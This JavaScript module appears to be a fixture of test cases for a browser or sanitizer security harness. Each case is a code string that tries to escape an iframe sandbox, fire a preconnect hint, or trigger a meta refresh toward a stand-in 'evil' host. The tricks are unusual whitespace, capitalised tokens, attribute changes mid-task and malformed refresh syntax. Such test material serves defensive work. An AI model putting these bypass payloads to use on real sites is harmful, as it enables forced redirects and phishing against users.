// What HTML takes for white space and JavaScript does not, or the other way round: in the tokens of `sandbox` and `rel`, in a
// type, in a refresh.
const leaves = (token) => `({ evil, script }) => {
  const f = document.createElement("iframe");
  f.setAttribute("sandbox", ${JSON.stringify(token)});
  f.srcdoc = script(\`top.location = "\${evil}"\`);
  document.body.append(f);
}`;
const marked = (token) => `({ evil, add, script }) => {
  const text = script(\`top.location = '\${evil}'\`).replaceAll("&", "&amp;").replaceAll('"', "&quot;");
  add("div").innerHTML = \`<iframe sandbox="${token}" srcdoc="\${text}"></iframe>\`;
}`;
const hint = (rel) => ({
  source: `({ evil, add }) => void (add("div").innerHTML = \`<link rel="${rel}" href="\${evil}">\`)`,
  hit: "connection",
});
const refresh = (content) =>
  `({ evil, add }) => void (add("div").innerHTML = \`<meta http-equiv="refresh" content="${content}">\`)`;

const SPACES = { "no-break space": "\\u00a0", "line tabulation": "\\u000b", "a byte order mark": "\\ufeff" };
const MORE = {
  "line separator": "\\u2028",
  "ideographic space": "\\u3000",
  "next line": "\\u0085",
  "ogham space": "\\u1680",
};
const spaced = Object.entries({ ...SPACES, ...MORE }).flatMap(([name, space]) => [
  [`sandbox with ${name}`, leaves(JSON.parse(`"x${space}allow-same-origin allow-scripts allow-top-navigation"`))],
  [`sandbox of markup with ${name}`, marked(`allow-scripts x${space}allow-same-origin allow-top-navigation`)],
]);

export default {
  ...Object.fromEntries(spaced),
  "sandbox with capitals": leaves("ALLOW-SCRIPTS Allow-Top-Navigation"),
  "sandbox with tabs and form feeds": leaves("allow-scripts\tx\fallow-top-navigation\n"),
  "sandbox by its list": `({ evil, script }) => {
    const f = document.createElement("iframe");
    f.sandbox.add("allow-scripts", "allow-top-navigation");
    f.srcdoc = script(\`top.location = "\${evil}"\`);
    document.body.append(f);
  }`,
  "sandbox of another namespace first": `({ evil, script }) => {
    const f = document.createElement("iframe");
    f.setAttributeNS("urn:x", "sandbox", "allow-scripts allow-same-origin");
    f.setAttribute("sandbox", "allow-scripts allow-top-navigation");
    f.srcdoc = script(\`top.location = "\${evil}"\`);
    document.body.append(f);
  }`,
  "sandbox while the page is busy": `({ evil, add, script }) => {
    const f = document.createElement("iframe");
    f.setAttribute("sandbox", "allow-scripts allow-top-navigation");
    f.srcdoc = script(\`top.location = "\${evil}"\`);
    document.body.append(f);
    for (const end = performance.now() + 1_500; performance.now() < end; );
  }`,
  "sandbox that comes while the page is busy": `({ evil, add, script }) => {
    const f = add("iframe");
    f.setAttribute("sandbox", "allow-scripts allow-top-navigation");
    f.setAttribute("srcdoc", script(\`top.location = "\${evil}"\`));
    for (const end = performance.now() + 1_500; performance.now() < end; );
  }`,
  "sandbox that changes in the task": `({ evil, script }) => {
    const f = document.createElement("iframe");
    f.setAttribute("sandbox", "allow-scripts allow-top-navigation");
    f.srcdoc = script(\`top.location = "\${evil}"\`);
    document.body.append(f);
    f.setAttribute("sandbox", "allow-scripts");
  }`,
  "sandbox that changes in the task, of a frame that is there": `({ evil, script, add }) => {
    const f = add("iframe");
    f.setAttribute("sandbox", "allow-scripts allow-top-navigation");
    f.srcdoc = script(\`top.location = "\${evil}"\`);
    f.setAttribute("sandbox", "allow-scripts");
  }`,
  "sandbox that changes and is loaded again": `async ({ evil, script, sleep }) => {
    const f = document.createElement("iframe");
    f.setAttribute("sandbox", "allow-scripts");
    f.srcdoc = "x";
    document.body.append(f);
    await sleep(300);
    f.setAttribute("sandbox", "allow-scripts allow-top-navigation");
    f.srcdoc = script(\`top.location = "\${evil}"\`);
  }`,
  "a hint among tabs": hint("x\\tpreconnect"),
  "a hint with capitals": hint("PreConnect"),
  "a hint behind a form feed": hint("x\\fdns-prefetch\\fpreconnect"),
  "a refresh with a comma": refresh("0,url=${evil}"),
  "a refresh with spaces": refresh("  0 ; url = ${evil}"),
  "a refresh with a quote": refresh("0;url='${evil}'x"),
  "a refresh without url": refresh("0; ${evil}"),
  "a refresh with fractions": refresh("0.1.2;URL=${evil}"),
  "a refresh with a form feed": refresh("0\\f;\\furl\\f=\\f${evil}"),
};
